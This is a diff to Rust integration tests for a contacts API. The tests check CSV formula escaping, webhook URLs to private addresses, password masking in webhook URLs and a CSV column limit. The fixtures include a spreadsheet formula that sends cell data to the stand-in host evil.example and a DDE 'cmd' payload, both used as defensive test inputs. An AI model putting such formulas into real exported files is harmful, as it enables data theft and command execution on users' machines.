@@ -408,6 +408,12 @@ fn export_then_import_into_another_organization_reproduces_every_value() {
         json!({"name": "தமிழ் செல்வி", "phoneNumber": "+919123456789", "language": "ta-IN"}),
         json!({"name": "Émile 🎉", "phoneNumber": "+33612345678", "metadata": {"line": "a\nb", "empty": ""}}),
         json!({"name": "Zed", "phoneNumber": "+14155550001", "language": null, "metadata": {}}),
+        // Formulas to a spreadsheet: escaped in the file, exact once imported.
+        json!({"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "phoneNumber": "+14155550002"}),
+        json!({"name": "@SUM(1,1)", "phoneNumber": "+14155550003"}),
+        json!({"name": "+1+cmd|' /C calc'!A0", "phoneNumber": "+14155550004"}),
+        json!({"name": "-2", "phoneNumber": "+14155550005"}),
+        json!({"name": "'quoted", "phoneNumber": "+14155550006"}),
     ];
     for contact in &tricky {
         assert_eq!(app.post("/v1/contacts", contact).status.code, 201);
@@ -424,6 +430,21 @@ fn export_then_import_into_another_organization_reproduces_every_value() {
             .dispatch()
             .into_string()
             .unwrap();
+        if format == "csv" {
+            for cell in ["'=HYPERLINK(", "'@SUM(1,1)", "'+1+cmd", "'-2", "''quoted"] {
+                assert!(
+                    exported
+                        .lines()
+                        .any(|l| l.contains(&format!(",{cell}"))
+                            || l.contains(&format!(",\"{cell}"))),
+                    "{cell} not escaped:\n{exported}"
+                );
+            }
+            assert!(
+                exported.contains(",+14155550004,"),
+                "phone numbers as they are"
+            );
+        }
         let accepted = if format == "csv" {
             let mut request = app.client.post("/v1/imports/csv");
             request.add_header(Header::new("x-api-key", other_key.clone()));
@@ -596,13 +617,57 @@ fn webhooks_to_private_addresses_are_refused_unless_allowed() {
         &json!({"webhookUrl": "http://127.0.0.1:9/hook", "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
     );
     let location = accepted.location.clone().unwrap();
-    let status = wait_for(&app, &location, |s| s["webhook"]["state"] == "failed");
+    let status = wait_for(&app, &location, |s| {
+        s["webhook"]["attempts"]
+            .as_array()
+            .is_some_and(|a| !a.is_empty())
+    });
     assert_eq!(status["status"], "COMPLETED");
     let attempts = status["webhook"]["attempts"].as_array().unwrap();
-    assert_eq!(attempts.len(), 1);
     assert_eq!(attempts[0]["statusCode"], Value::Null);
+    // The same words, and the same retries, as for a name that does not
+    // resolve: an attempt does not tell a tenant which internal names exist.
     assert!(
-        attempts[0]["error"].as_str().unwrap().contains("refused"),
+        attempts[0]["error"]
+            .as_str()
+            .unwrap()
+            .contains("has no address to deliver to"),
         "{status}"
     );
+    assert_eq!(status["webhook"]["state"], "pending", "{status}");
+}
+
+#[test]
+fn a_password_in_a_webhook_url_is_never_shown() {
+    let app = TestApp::spawn();
+    let accepted = app.post(
+        "/v1/imports/api/bulk",
+        &json!({"webhookUrl": "https://hooks:s3cr3t-pw@example.com/in?x=1",
+                "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
+    );
+    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
+    let status = app.get(&accepted.location.unwrap()).body;
+    assert_eq!(status["webhookUrl"], "https://hooks:***@example.com/in?x=1");
+    let listed = app.get("/v1/imports").body;
+    assert!(!listed.to_string().contains("s3cr3t-pw"), "{listed}");
+}
+
+#[test]
+fn a_csv_header_wider_than_100_columns_is_422_before_anything_is_stored() {
+    let app = TestApp::spawn();
+    let mut header: Vec<String> = vec!["name".into(), "phone".into()];
+    header.extend((0..99).map(|i| format!("k{i}")));
+    let row = vec![""; header.len()].join(",");
+    let refused = csv_import(&app, "", &format!("{}\n{row}\n", header.join(",")));
+    assert_eq!(refused.status.code, 422, "{}", refused.body);
+    assert!(refused.body["message"]
+        .as_str()
+        .unwrap()
+        .contains("100 columns"));
+    assert_eq!(app.get("/v1/imports").body["total"], 0, "nothing stored");
+    // A blank line of any width before the header is skipped, not refused.
+    let accepted = csv_import(&app, "", ",,\nname,phone\nA,+14155550001\n");
+    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
+    let status = finished(&app, &accepted);
+    assert_eq!(status["created"], 1, "{status}");
 }
